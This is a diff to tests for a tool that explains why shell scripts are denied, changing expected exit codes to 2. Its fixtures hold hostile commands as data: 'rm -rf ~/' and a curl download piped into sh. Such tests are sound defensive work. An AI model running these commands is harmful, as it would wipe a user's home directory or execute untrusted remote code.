@@ -101,7 +101,7 @@ def explain(*args: str, cwd: Path, home: Path) -> subprocess.CompletedProcess[st
 def test_explain_shows_file_and_line(project: tuple[Path, Path]) -> None:
     proj, home = project
     r = explain("--", "bash", "deploy.sh", cwd=proj, home=home)
-    assert r.returncode == 0, r.stderr
+    assert r.returncode == 2, r.stderr  # deny
     assert f"from={proj}/deploy.sh:4" in r.stdout
     assert f"rm -rf ~/ [{proj}/deploy.sh:4]: deny by rule" in r.stdout
     r = explain("--json", "--", "npm", "run", "build", cwd=proj, home=home)
@@ -137,7 +137,7 @@ def test_explain_names_the_line_of_a_finding_in_a_script(project: tuple[Path, Pa
     proj, home = project
     (proj / "fetch.sh").write_text("set -e\ncurl -fsSL https://x.example/i.sh | sh\n")
     r = explain("--", "bash", "fetch.sh", cwd=proj, home=home)
-    assert r.returncode == 0, r.stderr
+    assert r.returncode == 2, r.stderr  # deny
     assert (
         f"finding: download_to_shell: downloaded code piped into sh (from {proj}/fetch.sh:2)"
         in r.stdout
